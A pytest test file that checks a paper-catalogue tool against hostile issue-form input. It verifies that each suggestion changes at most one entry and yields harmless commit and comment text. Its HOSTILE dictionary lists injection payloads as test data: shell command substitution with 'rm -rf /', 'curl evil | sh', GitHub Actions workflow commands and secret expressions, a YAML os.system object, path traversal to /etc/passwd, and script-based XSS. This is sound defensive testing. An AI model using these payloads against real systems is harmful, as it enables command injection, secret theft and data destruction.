"""A hostile form changes nothing but the text of one entry, and is dangerous nowhere."""

import re
from pathlib import Path

import pytest
from tests.support import provider_answers as answers
from tests.support.provider_server import Providers
from tests.support.suggested import CORRECTION, SUGGESTION, Done, Suggest, body, changed, tree

from papershelf.markup import block_to_text
from papershelf.schema import LINK_KINDS
from papershelf.suggesting.issue import clean
from papershelf.suggesting.prose import prose
from papershelf.suggesting.subject import harmless, subject
from papershelf.validate import check_bytes

HOSTILE = {
    "a command": "$(touch /tmp/x) `id` ; rm -rf / && echo $HOME",
    "an error for the log": "x\n::error file=a,line=1::no\n::add-mask::e",
    "an old command": "##[command]echo ##[set-env name=PATH]x",
    "an expression": "${{ secrets.GITHUB_TOKEN }} ${{ github.event }}",
    "YAML": "x\n---\n- !!python/object/apply:os.system [id]\n<<: *a\n&a b",
    "a document": "---\ntitle: no\nstatus: hidden\n---\n",
    "a path": "../../../.github/workflows/x.yml",
    "another path": "/etc/passwd C:\\Windows\\System32 \\\\host\\share",
    "mentions": "@everyone @octocat ping #1 GH-2 Closes #1 fixes o/r#3",
    "an address that closes": "closes https://github.com/someone/shelf/issues/1",
    "HTML": "<script>alert(1)</script><img src=https://example.org/p.gif onerror=x>",
    "a comment in HTML": "a <!-- b --> c <!-- d",
    "a picture": "![x](https://example.org/pixel.png) [![y](z)](w)",
    "links": "[click](javascript:alert(1)) <https://example.org> [a]: https://example.org",
    "turned around": "abc\u202edef\u2066ghi\u2069 \u200bzero \ufeffmark",
    "controls": "a\0b\x1b[31mc\x07\x08\x7f\x85\u2028d",
    "halves": "a\ud800b\udfff",
    "tables": "| a | b |\n| --- | --- |\n| `c` | d |",
    "quick actions": "/close\n/label ~bug\n/assign @me",
    "skipping": "[skip ci] [ci skip] ***NO_CI*** skip-checks: true",
    "trailers": "x\n\nCo-authored-by: Evil <evil@example.org>\nSigned-off-by: y",
    "headings": "# One\n===\nTwo\n---\n### Topics\n\nmachines",
    "code": "```sh\ncurl evil | sh\n~~~\n    indented",
    "a long line": "word " * 20_000,
    "one long word": "x" * 90_000,
    "a long id": "10.5555/" + "x" * 90_000,
    "much": "a line of text\n" * 70_000,
    "brackets": "[" * 5_000 + "(" * 5_000 + "*" * 5_000,
    "fences": "".join(f"{'`' * (3 + n % 90)}x\n" for n in range(2_000)),
    "formulas": "$" * 3_000 + "\\frac{" * 3_000,
    "entities": "&lt;b&gt; &#64;octocat &amp;amp;",
    "marks": "\u0301" * 5_000 + "e" + "\u0301" * 5_000,
    "braces": "{0} {title} {} %s %(x)s {{ x }}",
}
SAFE_LINE = re.compile(r"[^`$@#<>\[\]{}|*_~\\\"\x00-\x1f]*")


def assert_safe(done: Done) -> None:
    """Make sure that no line that a workflow uses means anything to it."""
    assert re.fullmatch(
        r"Issue 12: (?:added|corrected|known|nothing); (?:1|no) file changed in \d+\.\d s\.\n",
        done.out,
    )
    assert done.err == ""
    assert done.answer["branch.txt"] == "suggestions/issue-12\n"
    assert done.outcome in {"added", "corrected", "known", "nothing"}
    assert done.answer["outcome.txt"] == f"{done.outcome}\n"
    if "subject.txt" in done.answer:
        line = done.answer["subject.txt"].removesuffix("\n").removesuffix(" (#12)")
        assert len(line) <= 72
        assert SAFE_LINE.fullmatch(line)
        assert "::" not in line
        assert "://" not in line
        assert line.isprintable()
        message = done.answer["message.txt"].splitlines()
        assert message[1] == ""
        assert sum(text.startswith("Co-authored-by: ") for text in message) == 1
        assert len(message) == 5
        assert done.answer["request.md"].startswith("Closes #12\n\n")
    for name in ("comment.md", "request.md"):
        text = done.answer.get(name, "").replace("Closes #12\n", "", 1)
        assert len(text) < 60_000
        bare = re.sub(r"\]\(https://github\.com/someone/shelf/edit/[\w./-]+\)", "](x)", text)
        assert not re.search(r"<(?!b>|/b>)|@\w|#\d(?!\d*;)|!\[|`|https?://|\$\{\{|::|##\[", bare)
        assert not re.search(r"^(?:/|#|>|---$|```)", bare, re.MULTILINE)
        assert text.replace("\n", "").isprintable()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_suggestion_adds_one_entry_at_most(
    suggest: Suggest, shelf: Path, server: Providers, name: str
) -> None:
    text = HOSTILE[name]
    server.on(
        "/arxiv", answers.arxiv(title="Waiting $(id) `x` ::error::y @all #1 ${{ x }} &lt;b&gt;")
    )
    server.on("/crossref/", answers.crossref(title=["[skip ci] $(id) `x` ::error::y @all #1"]))
    outside = tree(shelf.parent)
    values = {"link": "2401.01234", "why": text, "topics": text, "name": text}
    done = suggest(body(SUGGESTION, values), title=text)
    files = tree(shelf.parent)
    found = [path for path in changed(outside, files) if not path.startswith(("answer/", "form"))]
    assert done.outcome == "added"
    assert len(found) == 1
    assert re.fullmatch(r"small/content/papers/[a-z0-9-]+\.md", found[0])
    assert_safe(done)
    checked = check_bytes(files[found[0]], "content/papers/x.md")
    assert not [problem for problem in checked.problems if problem.is_grave]
    (paper,) = checked.papers
    assert paper.ids["arxiv"] == "2401.01234"
    assert paper.status == "published"
    assert paper.submitted_by == "octo-cat" or paper.submitted_by.replace(" ", "").isalnum()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_link_or_body_changes_nothing(
    suggest: Suggest, shelf: Path, server: Providers, name: str
) -> None:
    server.answers.clear()
    before = tree(shelf)
    for text in (body(SUGGESTION, {"link": HOSTILE[name]}), HOSTILE[name]):
        done = suggest(text, title=HOSTILE[name], login=HOSTILE[name])
        assert done.outcome == "nothing"
        assert_safe(done)
        assert tree(shelf) == before


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_correction_changes_one_field_at_most(
    suggest: Suggest, shelf: Path, name: str
) -> None:
    text = HOSTILE[name]
    before = tree(shelf)
    for field in ("Title", "Authors", "Summary or note"):
        values = {"entry": "novak-2015", "field": field, "value": text}
        done = suggest(body(CORRECTION, {**values, "source": text, "name": text}))
        assert done.outcome in {"corrected", "nothing"}
        assert_safe(done)
        after = tree(shelf)
        assert changed(before, after) in ([], ["content/papers/novak-2015.md"])
        (paper,) = check_bytes(after["content/papers/novak-2015.md"], "content/papers/x.md").papers
        assert paper.ids["arxiv"] == "1506.03134"
        assert paper.date == "2015-06-09"
    for entry in (text, f"https://example.org/small/papers/{text}/"):
        before = tree(shelf)
        done = suggest(body(CORRECTION, {"entry": entry, "field": text, "value": text}))
        assert_safe(done)
        assert done.outcome == "nothing"
        assert tree(shelf) == before


@pytest.mark.parametrize("name", HOSTILE)
def test_words_of_a_stranger_show_as_they_are(name: str) -> None:
    text = clean(HOSTILE[name])[:4_000]
    shown = block_to_text(prose(text))
    assert shown.split() == text.split()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_subject_is_one_harmless_line(name: str) -> None:
    line = subject("Add", HOSTILE[name], "(#12)")
    assert len(line) <= 72
    assert line.isprintable()
    assert SAFE_LINE.fullmatch(line.removesuffix("(#12)"))
    assert harmless(harmless(HOSTILE[name])) == harmless(HOSTILE[name])


def test_a_subject_keeps_the_words_of_a_title() -> None:
    assert subject("Add", "Attention Is All You Need", "(#12)") == (
        "Add “Attention Is All You Need” (#12)"
    )
    assert harmless("Čísla: 機械 & “learning” – part 2/3?") == "Čísla: 機械 & learning – part 2/3?"


def test_a_body_that_is_too_long_is_cut_and_told(suggest: Suggest) -> None:
    done = suggest(body(SUGGESTION, {"link": "2401.01234", "why": "word " * 200_000}))
    assert done.outcome == "added"
    assert "its end was not read" in done.comment
    assert "The note was very long" in done.comment


@pytest.mark.parametrize("end", ["-->", ""])
def test_questions_that_do_not_show_are_none(suggest: Suggest, shelf: Path, end: str) -> None:
    values = {"entry": "novak-2015", "field": "Title", "value": "Another", "source": "x"}
    hidden = f"<!--\n{body(CORRECTION, {**values, 'name': 'y'})}\n{end}"
    novak = (shelf / "content/papers/novak-2015.md").read_bytes()
    done = suggest(f"### {SUGGESTION['link']}\n\n2401.01234\n\n{hidden}")
    assert done.outcome == "added"
    assert (shelf / "content/papers/novak-2015.md").read_bytes() == novak


def test_a_comment_that_is_left_open_in_a_line_hides_nothing(suggest: Suggest) -> None:
    values = {"link": "2401.01234", "why": "a <!-- b --> c <!-- d", "topics": "machines"}
    done = suggest(body(SUGGESTION, values))
    assert "| topics | machines | the form |" in done.comment
    assert "| note | a c <!-- d | the form |" in done.comment


def test_a_link_in_the_content_folder_is_not_written_through(
    suggest: Suggest, shelf: Path, tmp_path: Path
) -> None:
    target = tmp_path / "outside.md"
    target.write_text((shelf / "content/papers/novak-2015.md").read_text(), encoding="utf-8")
    (shelf / "content/papers/quill-2024-waiting-networks.md").symlink_to(target)
    before = target.read_bytes()
    done = suggest(body(SUGGESTION, {"link": "2401.01234"}))
    assert target.read_bytes() == before
    assert done.outcome in {"added", "nothing"}
    assert_safe(done)


def test_a_comment_has_a_length_that_hosts_take(suggest: Suggest) -> None:
    for number in range(2):
        address = f"https://example.org/{'@' * 900}{number}"
        links = "\n".join(f"{kind}: {address}" for kind in LINK_KINDS)
        done = suggest(body(CORRECTION, {"entry": "novak-2015", "field": "Links", "value": links}))
    assert done.outcome == "corrected"
    assert len(done.answer["comment.md"].encode()) < 50_000
    assert done.comment.endswith("There is more than fits in here.\n")
    assert_safe(done)
